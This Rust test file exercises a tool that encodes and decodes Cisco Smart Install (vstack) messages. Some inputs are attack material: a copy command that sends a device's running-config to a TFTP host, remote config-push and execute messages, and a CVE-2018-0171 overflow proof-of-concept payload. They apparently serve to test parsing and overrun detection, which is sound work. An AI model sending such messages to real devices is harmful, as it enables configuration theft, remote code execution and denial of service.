//! `ztpgate vstack encode|decode`: every kind encodes to its documented size and decodes back
//! (text and JSON) with its name, URLs, hosts and commands; hex in and out; standard input;
//! malformed input exits 1 after printing what decoded, and never panics.

// Test helpers outside #[test] functions: a panic is the failure report.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::io::Write;
use std::path::Path;
use std::process::{Command, Output, Stdio};

use common::{BIN, s, stdout, succeeded, ztpgate};
use serde_json::Value;

/// Encodes `args` into `dir/name` and returns the file's bytes.
fn encode(dir: &Path, name: &str, args: &[&str]) -> Vec<u8> {
    let path = dir.join(name);
    let mut full = vec!["vstack", "encode"];
    full.extend_from_slice(args);
    full.extend_from_slice(&["-o", s(&path)]);
    let out = ztpgate(&full);
    succeeded(&out);
    std::fs::read(path).unwrap()
}

/// `vstack decode --json FILE` → (exit code, document).
fn decode_json(path: &Path) -> (i32, Value) {
    let out = ztpgate(&["vstack", "decode", "--json", s(path)]);
    (
        out.status.code().unwrap(),
        serde_json::from_str(&stdout(&out)).unwrap(),
    )
}

fn no_panic(out: &Output) {
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
}

#[test]
fn every_kind_encodes_and_decodes_back() {
    let dir = tempfile::tempdir().unwrap();
    let cases: [(&str, &[&str], usize, &str); 7] = [
        ("probe", &["probe"], 24, "probe"),
        ("short", &["probe", "--short"], 17, "probe"),
        ("reply", &["probe-reply"], 24, "probe_reply"),
        (
            "push",
            &[
                "config-push",
                "--url",
                "tftp://192.0.2.1/c.conf",
                "--reload",
                "--at",
                "01:02",
            ],
            312,
            "config_push",
        ),
        (
            "upgrade",
            &[
                "image-upgrade",
                "--image-list-url",
                "tftp://192.0.2.1/tar_imglist0.txt",
            ],
            468,
            "image_upgrade",
        ),
        (
            "execute",
            &["execute", "--url", "tftp://192.0.2.1/cmds.txt"],
            544,
            "execute",
        ),
        (
            "discovery",
            &["init-discovery", "--tlv", "1:41424344", "--tlv", "0x2:"],
            36,
            "init_discovery",
        ),
    ];
    for (name, args, size, kind) in cases {
        let bytes = encode(dir.path(), name, args);
        assert_eq!(bytes.len(), size, "{name}");
        let (code, doc) = decode_json(&dir.path().join(name));
        assert_eq!(code, 0, "{name}");
        assert_eq!(doc["error"], Value::Null);
        assert_eq!(doc["messages"][0]["kind"], kind, "{name}");
        let text = stdout(&ztpgate(&["vstack", "decode", s(&dir.path().join(name))]));
        assert!(text.starts_with(&format!("offset 0: {kind} ")), "{text}");
    }
    let (_, doc) = decode_json(&dir.path().join("push"));
    let m = &doc["messages"][0];
    assert_eq!(m["urls"][0]["field"], "config_url");
    assert_eq!(m["urls"][0]["url"], "tftp://192.0.2.1/c.conf");
    assert_eq!(m["urls"][0]["scheme"], "tftp");
    assert_eq!(m["urls"][0]["host"], "192.0.2.1");
    assert_eq!(m["urls"][0]["path"], "/c.conf");
    assert_eq!(m["hosts"][0], "192.0.2.1");
    assert_eq!(m["details"]["at"], "01:02");
    let (_, doc) = decode_json(&dir.path().join("execute"));
    assert_eq!(doc["messages"][0]["w0"], 2);
    assert_eq!(doc["messages"][0]["urls"][0]["field"], "command_file_url");
}

#[test]
fn copy_commands_name_their_commands_and_hosts() {
    let dir = tempfile::tempdir().unwrap();
    let bytes = encode(
        dir.path(),
        "copy",
        &[
            "copy-commands",
            "--command",
            "copy system:running-config flash:/config.text",
            "--command",
            "copy flash:/config.text tftp://192.0.2.1/192.0.2.2.conf",
        ],
    );
    assert_eq!(bytes.len(), 1048);
    let path = dir.path().join("copy");
    let (_, doc) = decode_json(&path);
    let m = &doc["messages"][0];
    assert_eq!(m["commands"][0]["field"], "command_1");
    assert_eq!(
        m["commands"][1]["command"],
        "copy flash:/config.text tftp://192.0.2.1/192.0.2.2.conf"
    );
    assert_eq!(m["urls"].as_array().unwrap().len(), 1);
    assert_eq!(m["hosts"], serde_json::json!(["192.0.2.1"]));
    let text = stdout(&ztpgate(&["vstack", "decode", s(&path)]));
    assert!(text.contains("  command command_2: copy flash:/config.text tftp://192.0.2.1/"));
    assert!(text.contains("  host: 192.0.2.1"));
}

#[test]
fn hex_output_decodes_from_hex_input_and_stdin() {
    let out = ztpgate(&["vstack", "encode", "probe", "--hex"]);
    assert_eq!(
        stdout(&out),
        "000000010000000100000004000000080000000100000000\n"
    );
    let spaced = "00000004 00000000 00000003\n00000008 00000001 00000000\n";
    let mut child = Command::new(BIN)
        .args(["vstack", "decode", "--hex", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(spaced.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success());
    assert!(stdout(&out).starts_with("offset 0: probe_reply (w0=4 w1=0 type=3 length=8"));
}

#[test]
fn truncated_input_exits_1_after_printing_what_decoded() {
    let dir = tempfile::tempdir().unwrap();
    let probe = encode(dir.path(), "probe", &["probe"]);
    let path = dir.path().join("cut");
    std::fs::write(&path, [&probe[..], &probe[..20]].concat()).unwrap();
    let out = ztpgate(&["vstack", "decode", s(&path)]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stdout(&out).starts_with("offset 0: probe "));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("offset 24 is truncated"), "{stderr}");
    let (code, doc) = decode_json(&path);
    assert_eq!(code, 1);
    assert_eq!(doc["messages"].as_array().unwrap().len(), 1);
    assert_eq!(doc["error"]["code"], "truncated");
    assert_eq!(doc["error"]["offset"], 24);
}

#[test]
fn cve_2018_0171_poc_shows_the_overrun_then_fails() {
    let dir = tempfile::tempdir().unwrap();
    let value = format!(
        "{}000008d8{}{}",
        "41".repeat(36),
        "42".repeat(176),
        "44".repeat(2048)
    );
    let tlv = format!("1:{value}");
    let poc = encode(
        dir.path(),
        "poc",
        &[
            "init-discovery",
            "--tlv",
            &tlv,
            "--raw-tlv-length",
            "216",
            "--length-override",
            "216",
        ],
    );
    assert_eq!(poc.len(), 2288);
    assert_eq!(hex::encode(&poc[..16]), "000000010000000100000007000000d8");
    let (code, doc) = decode_json(&dir.path().join("poc"));
    assert_eq!(code, 1);
    let m = &doc["messages"][0];
    assert_eq!(m["kind"], "init_discovery");
    assert_eq!(m["findings"][0]["code"], "tlv_overrun");
    assert_eq!(doc["error"]["code"], "oversized");
    assert_eq!(doc["error"]["offset"], 232);
}

#[test]
fn garbage_and_bad_options_never_panic() {
    let dir = tempfile::tempdir().unwrap();
    let mut seed = 0x2545_f491_u32;
    for i in 0..20 {
        let bytes: Vec<u8> = (0..(i * 37))
            .map(|_| {
                seed ^= seed << 13;
                seed ^= seed >> 17;
                seed ^= seed << 5;
                seed.to_le_bytes()[0]
            })
            .collect();
        let path = dir.path().join(format!("g{i}"));
        std::fs::write(&path, bytes).unwrap();
        let out = ztpgate(&["vstack", "decode", s(&path)]);
        no_panic(&out);
        assert!(matches!(out.status.code(), Some(0 | 1)));
    }
    let bad_hex = dir.path().join("bad.hex");
    std::fs::write(&bad_hex, "0000000g").unwrap();
    let out = ztpgate(&["vstack", "decode", "--hex", s(&bad_hex)]);
    assert_eq!(out.status.code(), Some(2));
    let long = format!("tftp://192.0.2.1/{}", "a".repeat(200));
    let out = ztpgate(&["vstack", "encode", "execute", "--url", &long]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("do not fit"));
    let four = [
        "copy-commands",
        "--command",
        "a",
        "--command",
        "b",
        "--command",
        "c",
        "--command",
        "d",
    ];
    let out = ztpgate(&[&["vstack", "encode"][..], &four[..]].concat());
    assert_eq!(out.status.code(), Some(2));
    let out = ztpgate(&[
        "vstack",
        "encode",
        "image-upgrade",
        "--image-list-url",
        "x",
        "--at",
        "25:00",
    ]);
    assert_eq!(out.status.code(), Some(2));
    no_panic(&out);
}
